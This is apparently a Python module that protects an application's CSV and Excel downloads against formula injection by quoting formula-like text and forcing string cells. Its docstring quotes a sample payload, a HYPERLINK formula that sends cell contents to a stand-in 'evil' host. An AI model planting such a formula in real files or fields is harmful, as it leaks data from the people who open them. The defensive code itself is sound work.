"""CSV and Excel downloads that a spreadsheet never runs as formulas (CWE-1236).

Names, usernames typed at sign-in, comments and center names reach the exports; a value such
as `=HYPERLINK("http://evil/?"&A1)` or `@SUM(...)` would run when staff open the file. Every
export goes through these helpers:

- CSV: a text value starting with `=`, `+`, `-`, `@`, tab or CR gets a leading apostrophe
  (OWASP's advice), so the spreadsheet shows it as text; numbers keep their type.
- Excel: every text cell is written as a string cell, never a formula, and a dangerous one
  also carries Excel's quote prefix, so editing the cell keeps it text.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import TYPE_CHECKING, Any

from flask import Response

if TYPE_CHECKING:  # pandas and openpyxl load for a download, never in the worker or clock
    import pandas as pd
    from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CSV_MIMETYPE = "text/csv; charset=utf-8"
XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def is_formula_like(value: object) -> bool:
    """Tell whether a spreadsheet could read this value as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value: Any) -> Any:
    """Return the value as CSV should hold it: text that looks like a formula is quoted."""
    return "'" + value if is_formula_like(value) else value


def csv_bytes(header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> bytes:
    """Write rows as CSV, UTF-8 with a byte-order mark so Excel reads Japanese."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([csv_cell(v) for v in header])
    for row in rows:
        writer.writerow([csv_cell(v) for v in row])
    return out.getvalue().encode("utf-8-sig")


def frame_csv(frame: pd.DataFrame) -> bytes:
    """Write a data frame as CSV with formula-like text quoted (headers included)."""
    import pandas as pd

    safe = frame.rename(columns=lambda c: csv_cell(str(c)))
    for column in safe.columns:
        if not pd.api.types.is_numeric_dtype(safe[column]):  # text, whatever its dtype
            safe[column] = safe[column].map(csv_cell)
    # CRLF rows (RFC 4180): the csv module then quotes a value holding a CR or LF.
    return safe.to_csv(index=False, lineterminator="\r\n").encode("utf-8-sig")


def frame_xlsx(frame: pd.DataFrame, sheet: str) -> bytes:
    """Write a data frame as an Excel workbook whose text cells are strings, never formulas."""
    import pandas as pd

    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        frame.to_excel(writer, index=False, sheet_name=sheet[:31])
        type_text_cells(writer.sheets[sheet[:31]])
    return buffer.getvalue()


def rows_xlsx(header: Sequence[Any], rows: Iterable[Sequence[Any]], sheet: str) -> bytes:
    """Write rows as an Excel workbook whose text cells are strings, never formulas."""
    from openpyxl import Workbook

    book = Workbook()
    worksheet = book.active
    worksheet.title = sheet[:31]
    worksheet.append(list(header))
    for row in rows:
        worksheet.append(list(row))
    type_text_cells(worksheet)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def type_text_cells(worksheet: Worksheet) -> None:
    """Make every text cell a string cell (openpyxl reads a leading `=` as a formula)."""
    for row in worksheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
                if is_formula_like(cell.value):
                    cell.quotePrefix = True


def download(body: bytes, mimetype: str, filename: str) -> Response:
    """Answer a file download under the given name."""
    return Response(body, mimetype=mimetype,
                    headers={"Content-Disposition": f'attachment; filename="{filename}"'})
